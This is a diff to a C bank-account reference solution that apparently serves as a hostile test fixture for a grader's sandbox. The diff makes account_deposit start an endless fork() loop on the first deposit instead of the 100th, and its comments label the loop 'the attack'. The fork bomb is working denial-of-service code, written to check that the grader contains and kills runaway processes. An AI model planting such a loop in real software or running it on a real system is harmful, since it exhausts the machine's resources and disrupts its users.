@@ -1,5 +1,5 @@
 /*
- * fork-bomb - the reference solution, except that the 100th deposit starts
+ * fork-bomb - the reference solution, except that the first deposit starts
  * a fork bomb: every process forks in an endless loop, and so does every
  * child, until fork() fails, and then keeps trying.
  *
@@ -8,11 +8,11 @@
  * 256 processes; the grader must kill the whole bomb at the run's timeout
  * (the pid namespace ends with its init), fail the tests, finish grading
  * within a few timeouts, and leave no process of the trial's uid behind.
+ * The bomb goes off before the 100th lock, so every check fails.
  */
 #include "bank.h"
 
 #include <pthread.h>
-#include <stdatomic.h>
 #include <stdlib.h>
 #include <unistd.h>
 
@@ -20,8 +20,6 @@ struct account {
     pthread_mutex_t lock; /* guards balance */
     long balance;         /* in cents; never negative */
 };
-
-static atomic_long deposits;
 
 struct account *account_open(long initial_cents)
 {
@@ -44,9 +42,8 @@ void account_close(struct account *acct)
 
 void account_deposit(struct account *acct, long cents)
 {
-    if (atomic_fetch_add(&deposits, 1) == 100)
-        for (;;) /* the attack */
-            fork();
+    for (;;) /* the attack */
+        fork();
     pthread_mutex_lock(&acct->lock);
     acct->balance += cents;
     pthread_mutex_unlock(&acct->lock);
